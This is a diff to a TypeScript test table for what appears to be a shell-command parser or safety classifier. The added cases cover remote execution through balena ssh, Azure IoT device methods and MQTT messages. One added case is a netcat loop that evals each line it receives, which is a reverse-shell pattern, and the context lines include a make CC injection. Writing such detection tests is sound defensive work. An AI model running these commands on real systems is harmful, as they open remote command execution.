@@ -96,6 +96,14 @@ const CASES: Array<[string, string[]]> = [
   ["xdotool search --class xterm windowactivate --sync type 'id' key Return", ['xdotool search --class xterm windowactivate --sync type id key Return', 'eval:id']],
   ["wtype -d 20 'id'", ['wtype -d 20 id', 'eval:id']],
   ['xdotool key ctrl+l', ['xdotool key ctrl+l']],
+  // a device fleet's shells and command messages run on the devices
+  ["balena ssh 7e1c5a9 main 'id'", ['balena ssh 7e1c5a9 main id', 'remote:id']],
+  ['balena ssh 7e1c5a9', ['balena ssh 7e1c5a9']],
+  [`az iot hub invoke-device-method --hub-name h --device-id d --method-name run --method-payload '{"cmd":"id -u"}'`, ['az iot hub invoke-device-method --hub-name h --device-id d --method-name run --method-payload {"cmd":"id -u"}', 'remote:id -u']],
+  [`mosquitto_pub -h b -t t -m '{"op":"shell","arg":"id -u"}'`, ['mosquitto_pub -h b -t t -m {"op":"shell","arg":"id -u"}', 'remote:id -u']],
+  [`mosquitto_pub -h b -t t -m '{"state":"OFF"}'`, ['mosquitto_pub -h b -t t -m {"state":"OFF"}']],
+  // each line a network client reads, run: a shell reading from it
+  [`nc h 1 | while read c; do eval "$c"; done`, ['nc h 1', 'sh', 'read c', 'eval $c', 'eval:$c']],
   ["make build CC='gcc; id'", ['make build CC=gcc; id', 'exec-arg:gcc', 'exec-arg:id']],
   ["mvn exec:exec -Dexec.executable=sh -Dexec.args=\"-c 'id'\"", ["mvn exec:exec -Dexec.executable=sh -Dexec.args=-c 'id'", 'exec-arg:sh -c id', 'shell-c:id']],
   ["docker run --rm --entrypoint sh alpine -c 'id'", ['docker run --rm --entrypoint sh alpine -c id', 'remote:sh -c id', 'shell-c:id']],
